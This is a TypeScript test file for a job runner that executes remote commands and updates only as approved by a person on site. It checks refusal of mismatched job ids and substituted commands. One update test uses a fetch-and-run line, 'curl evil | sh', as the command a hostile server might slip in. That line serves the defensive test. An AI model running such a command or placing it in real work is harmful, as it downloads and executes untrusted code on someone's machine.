import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Duplex } from 'node:stream';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { silentLogger } from '../../shared/log.js';
import type { JobResult, JobWire } from '../../shared/protocol.js';
import { JobRunner } from './jobRunner.js';
import { UsedManifests } from './usedManifests.js';

/** A channel as the runner sees it: the job header comes in, the one answer line goes out. */
function channelWith(header: JobWire): { channel: Duplex; answer: Promise<JobResult> } {
  let out = '';
  let done!: (r: JobResult) => void;
  const answer = new Promise<JobResult>((resolve) => (done = resolve));
  const channel = new Duplex({
    read() {},
    write(chunk: Buffer, _enc, cb) {
      out += chunk.toString();
      cb();
    },
    final(cb) {
      done(JSON.parse(out) as JobResult);
      cb();
    },
  });
  channel.push(`${JSON.stringify(header)}\n`);
  return { channel, answer };
}

describe('JobRunner under customer approval', () => {
  const runner = new JobRunner({
    signing: { updateKey: undefined, require: 'updates', nodeId: 'nod_1' },
    usedManifests: new UsedManifests(join(tmpdir(), 'burrow-unused-manifests.json')),
    now: () => 0,
    env: { PATH: '/usr/bin:/bin' },
    log: silentLogger(),
  });
  const job = (id: string): JobWire => ({ id, kind: 'command', command: 'echo ran', size: 0, timeoutMs: 10_000 });

  it('refuses a job other than the one approved on site, on a channel opened under that approval', async () => {
    const { channel, answer } = channelWith(job('job_other'));
    runner.handle(channel, 'job_approved');
    const r = await answer;
    assert.equal(r.ok, false);
    assert.match(r.error ?? '', /approval on site was for job job_approved, not job_other/);
  });

  it('refuses the approved job id carrying another command than the person on site approved', async () => {
    // A hostile server asks approval for "uptime", then sends another command under that job id.
    const { channel, answer } = channelWith({ ...job('job_approved'), command: 'echo pwned' });
    runner.handle(channel, 'job_approved', 'run: uptime');
    const r = await answer;
    assert.equal(r.ok, false);
    assert.match(r.error ?? '', /approved on site was "run: uptime", not "run: echo pwned"/);
  });

  it('refuses an update whose install command the person on site was not shown', async () => {
    const update: JobWire = { id: 'job_u', kind: 'update', path: 'fw.bin', command: 'sh -c "curl evil | sh"', size: 0, timeoutMs: 10_000 };
    const { channel, answer } = channelWith(update);
    runner.handle(channel, 'job_u', 'install an update (fw.bin)');
    assert.match((await answer).error ?? '', /approved on site was "install an update \(fw.bin\)"/);
  });

  it('runs the job that was approved, as it was described on site', async () => {
    const { channel, answer } = channelWith(job('job_approved'));
    runner.handle(channel, 'job_approved', 'run: echo ran');
    const r = await answer;
    assert.equal(r.ok, true, r.error ?? '');
  });

  it('runs the job that was approved', async () => {
    const { channel, answer } = channelWith(job('job_approved'));
    runner.handle(channel, 'job_approved');
    const r = await answer;
    assert.equal(r.ok, true, r.error ?? '');
    assert.equal(r.stdout, 'ran\n');
  });
});
